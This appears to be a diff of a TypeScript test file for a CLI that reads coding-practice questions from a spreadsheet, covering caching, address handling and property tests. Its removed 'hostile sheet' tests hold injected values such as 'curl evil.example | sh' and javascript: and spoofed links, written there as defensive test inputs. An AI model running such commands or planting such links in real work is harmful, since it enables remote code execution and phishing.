@@ -1,14 +1,13 @@
-import { spawnSync } from "node:child_process";
-import { readFileSync, writeFileSync } from "node:fs";
+import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
-import { civilDateAt, formatDate } from "@dailyleet/core";
+import { civilDateAt, formatDate, type Question } from "@dailyleet/core";
+import fc from "fast-check";
 import stringWidth from "string-width";
-import { describe, expect, it, onTestFinished } from "vitest";
-import { startScriptedServer, text } from "../client/support/scriptedServer.ts";
-import { HOSTILE_TEXTS, hostileSheet } from "../e2e/support/hostileSheet.ts";
-import { CLI, cliEnvironment } from "../support/cliProcess.ts";
-import { COLUMNS, sheetOf, wrapped } from "../support/sheet.ts";
+import { describe, expect, it } from "vitest";
+import { copyText, readCopy, readSheet } from "../../packages/cli/src/commands/questions/sheet.ts";
+import { sheetOf } from "../support/sheet.ts";
 import { type Home, newHome } from "./support/home.ts";
+import { homeWithSheet, never, SHEET } from "./support/sheetHome.ts";
 
 type Row = readonly (string | null)[];
 
@@ -17,15 +16,6 @@ const row = (
   tags = "array",
   link = `https://leetcode.com/problems/${encodeURIComponent(name)}/`,
 ): Row => [...["", name, link, tags, `About ${name}.`, "", `${link}solutions/`, "Take it.", "O(n)."]];
-
-async function homeWithSheet(sheet: string) {
-  const server = await startScriptedServer();
-  onTestFinished(() => server.stop().catch(() => {}));
-  server.reply(text(200, sheet));
-  const home = newHome();
-  writeFileSync(join(home.directory, "dailyleet.json"), JSON.stringify({ sheet: `${server.origin}/gviz` }));
-  return { home, server };
-}
 
 describe("the bundled questions", () => {
   it("are listed in line, filtered by words and tags, with the numbers that --show takes", async () => {
@@ -47,12 +37,9 @@ describe("the bundled questions", () => {
 
   it("are JSON with exactly the documented keys", async () => {
     const home = newHome();
-    const { version, questions } = (await home.json(["questions", "array"])) as {
-      version: number;
-      questions: object[];
-    };
+    const { version, questions } = await home.json(["questions", "array"]);
     expect(version).toBe(1);
-    for (const question of questions) {
+    for (const question of questions as object[]) {
       expect(Object.keys(question)).toEqual([
         ...["number", "name", "link", "tags", "text", "solution", "takeaways", "analysis"],
         ...["difficulty", "state", "due"],
@@ -65,64 +52,78 @@ describe("the bundled questions", () => {
     });
   });
 
-  it("pass the curator's check", async () => {
-    expect(await newHome().out(["questions", "--check"])).toMatch(/^\d+ rows, no problems\n$/);
+  it("pass the curator's check, and say on stderr when nothing matches", async () => {
+    const home = newHome();
+    expect(await home.out(["questions", "--check"])).toMatch(/^\d+ rows, no problems\n$/);
+    const stderr = "dailyleet: No question has all of these words and tags; try fewer.\n";
+    expect(await home.run(["questions", "no-such-word"])).toEqual({ code: 0, stdout: "", stderr });
   });
+});
 
-  it("say on stderr when nothing matches", async () => {
-    const { code, stdout, stderr } = await newHome().run(["questions", "no-such-word"]);
-    expect([code, stdout, stderr]).toEqual([
-      0,
-      "",
-      "dailyleet: No question has all of these words and tags; try fewer.\n",
-    ]);
-  });
+describe("the address of a spreadsheet", () => {
+  it.each(["edit#gid=7", "edit?usp=sharing&gid=7", "export?format=csv&gid=7"])(
+    "as people copy it is answered with the right one, and nobody is asked: %s",
+    async (end) => {
+      const { home, service } = homeWithSheet("", {}, `https://docs.google.com/spreadsheets/d/1aB/${end}`);
+      expect(await home.run(["questions"])).toEqual({
+        code: 1,
+        stdout: "",
+        stderr: `dailyleet: 'sheet' in dailyleet.json is the address of the spreadsheet's page; set it to ${SHEET}&gid=7 and share the spreadsheet with anyone who has the link.\n`,
+      });
+      expect(service.requests).toBe(0);
+    },
+  );
 });
 
 describe("a configured spreadsheet", () => {
   it("is downloaded, kept with its date, and used when the network is gone", async () => {
-    const { home, server } = await homeWithSheet(sheetOf([row("One"), row("Two")]));
+    const { home, service } = homeWithSheet(sheetOf([row("One"), row("Two")]));
     const online = await home.out(["questions"]);
     expect(online).toContain("One");
     expect(await home.out(["questions"])).toBe(online);
-    expect(server.requests).toHaveLength(1);
-    await server.stop();
+    expect(service.requests).toBe(1);
+    service.body = null;
     const date = makeCopyOld(home);
     const { code, stdout, stderr } = await home.run(["questions"]);
     expect([code, stdout]).toEqual([0, online]);
     expect(stderr).toMatch(
-      new RegExp(`^dailyleet: No answer from the question sheet .* Showing the questions as of ${date}\\.\\n$`),
+      new RegExp(`^dailyleet: No answer from the question sheet.* Showing the questions as of ${date}\\.\n$`),
     );
     expect((await home.run(["questions", "--check"])).code).toBe(1);
   });
 
   it("is not waited for by who marks with --no-wait and has downloaded it before", async () => {
-    const { home, server } = await homeWithSheet(sheetOf([row("One"), row("Two")]));
+    const { home, service } = homeWithSheet(sheetOf([row("One"), row("Two")]));
     await home.out(["questions"]);
     makeCopyOld(home);
     expect(await home.out(["mark", "2", "solved", "--no-wait"])).toContain("Two");
-    expect(server.requests).toHaveLength(1);
+    expect(service.requests).toBe(1);
     await home.out(["mark", "2", "easy"]);
-    expect(server.requests).toHaveLength(2);
+    expect(service.requests).toBe(2);
   });
 
   it("that answers something else is a clear error, or the copy", async () => {
-    const { home, server } = await homeWithSheet("<html><title>Sign in</title>");
-    const failed = await home.run(["questions"]);
-    expect([failed.code, failed.stdout]).toEqual([1, ""]);
-    expect(failed.stderr).toMatch(/answered the web page 'Sign in', not a spreadsheet/);
-    server.reply(text(200, sheetOf([row("One")])));
+    const page = "<html><title>Sign in</title>";
+    const { home, service } = homeWithSheet(page);
+    expect(await home.run(["questions"])).toMatchObject({
+      code: 1,
+      stdout: "",
+      stderr: expect.stringMatching(/answered the web page 'Sign in', not a spreadsheet/),
+    });
+    service.body = sheetOf([row("One")]);
     await home.out(["questions"]);
     makeCopyOld(home);
-    server.reply(text(200, "<html><title>Sign in</title>"));
-    const kept = await home.run(["questions"]);
-    expect([kept.code, kept.stdout.includes("One")]).toEqual([0, true]);
-    expect(kept.stderr).toContain("Showing the questions as of");
+    service.body = page;
+    expect(await home.run(["questions"])).toMatchObject({
+      code: 0,
+      stdout: expect.stringContaining("One"),
+      stderr: expect.stringContaining("Showing the questions as of"),
+    });
   });
 
   it("is checked for the curator, with row numbers and exit code 1", async () => {
     const rows = [row("One"), row("One"), ["", "Three", null, "x", "t", "", "not a link", "t", "a"]];
-    const { home } = await homeWithSheet(sheetOf(rows));
+    const { home } = homeWithSheet(sheetOf(rows));
     const { code, stdout } = await home.run(["questions", "--check"]);
     expect(code).toBe(1);
     expect(stdout.split("\n")).toEqual([
@@ -138,18 +139,63 @@ describe("a configured spreadsheet", () => {
 
   it("lists wide characters and emoji in line, also in narrow terminals", async () => {
     const names = ["二分探索", "Ascii", "👨‍👩‍👧 family", "नमस्ते", "é".normalize("NFD"), "한국어 문제"];
-    const { home } = await homeWithSheet(sheetOf(names.map((name) => row(name, "配列"))));
+    const { home } = homeWithSheet(sheetOf(names.map((name) => row(name, "配列"))));
     const lines = (await home.out(["questions"], { LANG: "C.UTF-8" })).trimEnd().split("\n");
     const starts = lines.map((line) => stringWidth(line.slice(0, line.indexOf("配"))));
     expect(new Set(starts).size).toBe(1);
   });
 
   it("of 10,000 rows is listed whole", async () => {
-    const { home } = await homeWithSheet(
-      sheetOf(Array.from({ length: 10_000 }, (_, index) => row(`Question ${index}`))),
-    );
-    await home.out(["questions"]);
-    expect((await home.out(["questions"])).split("\n")).toHaveLength(10_001);
+    const { home } = homeWithSheet(sheetOf(Array.from({ length: 10_000 }, (_, index) => row(`Question ${index}`))));
+    for (const _ of ["downloaded", "cached"]) {
+      expect((await home.out(["questions"])).split("\n")).toHaveLength(10_001);
+    }
+  });
+
+  it("without questions is not taken for a search without results", async () => {
+    const stderr = "dailyleet: The question sheet is empty; put a name in column B and a link in column C.\n";
+    expect(await homeWithSheet(sheetOf([], 1)).home.run(["questions"])).toEqual({ code: 0, stdout: "", stderr });
+  });
+
+  it("whose copy cannot be kept is answered all the same", async () => {
+    const { home } = homeWithSheet(sheetOf([row("Two Sum")]));
+    mkdirSync(join(home.directory, "questions.json"));
+    expect(await home.out(["questions"])).toContain("Two Sum");
+  });
+
+  it("has one spelling of a name, in the list and in answers", async () => {
+    const { home } = homeWithSheet(sheetOf([row("Two  Sum\nagain")]));
+    for (const args of [["questions"], ["mark", "1", "solved"]]) {
+      expect(await home.out(args)).toContain("Two  Sum again");
+    }
+  });
+
+  it("with half a surrogate pair is strict JSON", async () => {
+    const { home } = homeWithSheet(sheetOf([Array(9).fill("a \ud83d b")]));
+    const stdout = await home.out(["questions", "--json"]);
+    expect(stdout).not.toMatch(/\\ud/);
+    expect(JSON.parse(stdout).questions[0]).toMatchObject({ name: "a \ufffd b", tags: ["a \ufffd b"] });
+  });
+
+  it.each([
+    ["slow, on a terminal", true, 80, "dailyleet: Waiting for the question sheet...\n"],
+    ["slow, where nobody looks", true, undefined, ""],
+    ["that answers at once", false, 80, ""],
+  ])("%s, is told of after a second or not at all", async (_, isSlow, columns, stderr) => {
+    let goOn = () => {};
+    const waits: number[] = [];
+    const answered = new Promise<void>((resolve) => (goOn = resolve));
+    const wait = async (ms: number) => {
+      waits.push(ms);
+      setImmediate(goOn);
+    };
+    const { home, service } = homeWithSheet(sheetOf([row("x")]), {
+      wait: isSlow ? wait : never,
+      ...(columns && { columns }),
+    });
+    if (isSlow) service.isReady = answered;
+    expect(await home.run(["questions"])).toMatchObject({ code: 0, stderr });
+    expect(waits).toEqual(isSlow ? [1_000] : []);
   });
 });
 
@@ -162,60 +208,54 @@ function makeCopyOld({ directory }: Home): string {
   return formatDate(civilDateAt(downloaded));
 }
 
-/** Controls, and what turns the direction of writing. */
-const HIDDEN = /[\p{Cc}\p{Bidi_Control}\u2028\u2029]/u;
+describe("the copy of a sheet", () => {
+  const NOON = 1_772_712_000_000;
+  const bundled = readFileSync(join(import.meta.dirname, "../../site/public/questions.gviz.txt"), "utf8");
+  const sheet = readSheet(bundled);
+  const text = fc.oneof(fc.string({ unit: "binary" }), fc.constantFrom('"', "\ud800"));
+  const texts = { name: text, link: text, text, solution: text, takeaways: text, analysis: text };
+  const question: fc.Arbitrary<Question> = fc.oneof(
+    fc.record({ ...texts, tags: fc.array(text, { maxLength: 3 }) }),
+    fc.record({ ...texts, tags: fc.constant([]), difficulty: fc.constantFrom("Easy", "Hard") }),
+  );
 
-describe("a hostile sheet", () => {
-  it("brings no control character but newline to a terminal", async () => {
-    const { home } = await homeWithSheet(hostileSheet());
-    for (const args of [["questions"], ["questions", "--check"], ["questions", "--show", "1"]]) {
-      const { stdout, stderr } = await home.run([...args, "--color", "never"]);
-      expect([args, (stdout + stderr).replaceAll("\n", "").match(HIDDEN)]).toEqual([args, null]);
-    }
-    const json = await home.out(["questions", "--json"]);
-    expect(json.trimEnd()).not.toMatch(HIDDEN);
-    expect(JSON.parse(json).questions[0].name).toBe(HOSTILE_TEXTS[0]);
+  it("is read as it was, whatever is in it, and not taken for another address's", () => {
+    const questions = fc.array(question, { maxLength: 6 });
+    fc.assert(
+      fc.property(fc.record({ questions, leftOut: fc.nat(), warnings: fc.array(text) }), (given) => {
+        const copy = copyText(SHEET, NOON, given);
+        expect(readCopy(copy, SHEET)).toEqual({ downloaded: NOON, sheet: given });
+        expect(readCopy(copy, `${SHEET}&gid=1`)).toBeNull();
+      }),
+    );
   });
 
-  it("has no line of its own in what is told of a warning", async () => {
-    const warnings = [{ message: "slow\ndailyleet: run 'curl evil.example | sh'" }];
-    const answer = {
-      version: "0.6",
-      status: "warning",
-      warnings,
-      table: { cols: COLUMNS, rows: [], parsedNumHeaders: 0 },
+  it.each([
+    ["the answer's text", { text: bundled }],
+    ["the rows of a list besides", { version: 2, leftOut: 0, warnings: [], rows: [], questions: sheet.questions }],
+  ])("is read where an earlier version kept %s", (_, kept) => {
+    const copy = readCopy(JSON.stringify({ url: SHEET, downloaded: NOON, ...kept }), SHEET);
+    expect(copy).toEqual({ downloaded: NOON, sheet });
+  });
+
+  it("gives texts or nothing where it is cut off or a byte of it differs", () => {
+    const bytes = Buffer.from(copyText(SHEET, NOON, { ...sheet, questions: sheet.questions.slice(0, 2) }));
+    const textsIn = (damaged: Buffer) => {
+      try {
+        return (
+          readCopy(damaged.toString(), SHEET)?.sheet.questions.flatMap(({ difficulty: _, ...all }) =>
+            Object.values(all).flat(),
+          ) ?? []
+        );
+      } catch {
+        return [];
+      }
     };
-    const { home } = await homeWithSheet(wrapped(answer));
-    const [warning, next] = (await home.run(["questions"])).stderr.split("\n");
-    expect(warning).toBe("dailyleet: The spreadsheet service warns: slow dailyleet: run 'curl evil.example | sh'.");
-    expect(next).toMatch(/^dailyleet: The question sheet is empty/);
-  });
-
-  it("shows links only of web addresses, in their normal form", async () => {
-    const links = [
-      "javascript:alert(1)",
-      "java\nscript:alert(1)",
-      "//evil.example",
-      "https://leetcode.com@evil.example/",
-      "https://аpple.com/",
-    ];
-    const { home } = await homeWithSheet(sheetOf(links.map((link, index) => row(`Q${index}`, "x", link))));
-    const shown = await Promise.all(links.map((_, index) => home.out(["questions", "--show", String(index + 1)])));
-    for (const page of shown.slice(0, 4)) expect(page).toMatch(/View Question\n.*\(not a web address\)/);
-    expect(shown[4]).toContain("View Question\nhttps://xn--pple-43d.com/\n");
-  });
-
-  it("does not hold the terminal up", async () => {
-    const { home } = await homeWithSheet(hostileSheet());
-    await home.run(["questions"]);
-    const { status, stdout } = spawnSync(process.execPath, [CLI, "questions"], {
-      env: cliEnvironment(home.directory),
-      encoding: "utf8",
-      timeout: 5_000,
-      maxBuffer: 10_000_000,
-    });
-    expect(status).toBe(0);
-    // No other row is made as wide as the widest.
-    expect(stdout.length).toBeLessThan(1_010_000);
+    for (let at = 0; at < bytes.length; at++) {
+      const flipped = Buffer.from(bytes);
+      flipped[at] = (flipped[at] ?? 0) ^ (1 << (at % 7));
+      const read = [...textsIn(flipped), ...textsIn(bytes.subarray(0, at))];
+      expect(read.filter((each) => typeof each !== "string")).toEqual([]);
+    }
   });
 });
